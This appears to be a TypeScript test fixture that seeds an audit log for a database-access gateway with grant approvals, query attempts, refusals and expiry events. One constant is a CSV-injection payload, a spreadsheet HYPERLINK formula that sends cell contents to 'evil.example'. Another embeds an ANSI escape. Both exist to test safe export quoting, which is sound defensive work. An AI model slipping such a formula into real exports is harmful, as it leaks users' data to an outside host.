import type { AuditLog } from '../../../src/audit/audit-log.js';
import type { AuditRecord } from '../../../src/audit/audit-record.js';
import { grantId } from '../../../src/grants/grant-id.js';

export const T0 = new Date('2024-06-01T10:00:00.000Z');
export const MINUTE = 60_000;
export const at = (minutes: number) => new Date(T0.getTime() + minutes * MINUTE);

export const GRANT = grantId('acme/access', 'access/hr_prod/alice-incident.yaml', 'c'.repeat(40));
export const OTHER_GRANT = grantId('acme/access', 'access/hr_prod/bob.yaml', 'e'.repeat(40));
export const PR = 101;
export const REVOCATION_PR = 140;

/** SQL that tests quoting in every format: a comma, quotes, a newline, non-ASCII, and an
 * ANSI escape that must not reach a terminal raw. */
export const TRICKY_SQL =
  "SELECT * FROM employee WHERE name = 'Zoë, \"the\" boss'\nAND note = '\u001b[31mred'";
/** A statement a spreadsheet would run as a formula (CSV injection). */
export const FORMULA_SQL = '=HYPERLINK("http://evil.example/?q="&A1)';

/** A small, known log: the lifecycle of one grant with queries, plus noise from another user. */
export async function seedLog(audit: AuditLog): Promise<AuditRecord[]> {
  const out: AuditRecord[] = [];
  const add = async (record: Promise<AuditRecord>) => out.push(await record);
  await add(
    audit.append(
      {
        type: 'grant.approved',
        actor: 'alice',
        prNumbers: [PR],
        prUrl: `https://github.com/acme/access/pull/${PR}`,
        approvers: ['dba-dora'],
        decision: 'approved',
        details: { headSha: 'b'.repeat(40), level: 'medium' },
      },
      at(0),
    ),
  );
  await add(
    audit.append(
      {
        type: 'grant.activated',
        actor: 'gatehouse',
        database: 'hr_prod',
        grantIds: [GRANT],
        prNumbers: [PR],
        prUrl: `https://github.com/acme/access/pull/${PR}`,
        mergeSha: 'c'.repeat(40),
        approvers: ['dba-dora'],
        tables: ['employee'],
        decision: 'activated',
        details: { expiresAt: at(240).toISOString() },
      },
      at(1),
    ),
  );
  const attempt = await audit.append(
    {
      type: 'query.attempt',
      actor: 'alice',
      database: 'hr_prod',
      grantIds: [GRANT],
      prNumbers: [PR],
      requestId: 'req-1',
      clientAddress: '10.0.0.7',
      sql: TRICKY_SQL,
      sqlSha256: 'd'.repeat(64),
      tables: ['employee'],
      decision: 'allowed',
    },
    at(2),
  );
  out.push(attempt);
  await add(
    audit.append(
      {
        type: 'query.outcome',
        actor: 'alice',
        database: 'hr_prod',
        grantIds: [GRANT],
        prNumbers: [PR],
        requestId: 'req-1',
        parentSeq: attempt.seq,
        decision: 'succeeded',
        details: { rows: 5, durationMs: 12, truncated: false },
      },
      at(3),
    ),
  );
  await add(
    audit.append(
      {
        type: 'query.attempt',
        actor: 'bob',
        database: 'analytics_prod',
        requestId: 'req-2',
        sql: FORMULA_SQL,
        sqlSha256: 'f'.repeat(64),
        decision: 'refused',
        code: 'SQL_NO_GRANT',
        details: { message: 'You hold no active grant for this database.' },
      },
      at(4),
    ),
  );
  await add(audit.append({ type: 'audit.checkpoint', actor: 'gatehouse' }, at(5)));
  await add(
    audit.append(
      {
        type: 'query.attempt',
        actor: 'bob',
        database: 'hr_prod',
        grantIds: [OTHER_GRANT],
        prNumbers: [102],
        sql: 'SELECT 1',
        decision: 'allowed',
      },
      at(6),
    ),
  );
  await add(
    audit.append(
      { type: 'grant.reminder_sent', actor: 'gatehouse', grantIds: [GRANT], prNumbers: [PR] },
      at(200),
    ),
  );
  await add(
    audit.append(
      {
        type: 'grant.revocation_pr_opened',
        actor: 'gatehouse',
        grantIds: [GRANT],
        prNumbers: [REVOCATION_PR],
        prUrl: `https://github.com/acme/access/pull/${REVOCATION_PR}`,
      },
      at(241),
    ),
  );
  await add(
    audit.append(
      {
        type: 'grant.expired',
        actor: 'gatehouse',
        grantIds: [GRANT],
        prNumbers: [PR],
        decision: 'expired',
      },
      at(241),
    ),
  );
  return out;
}
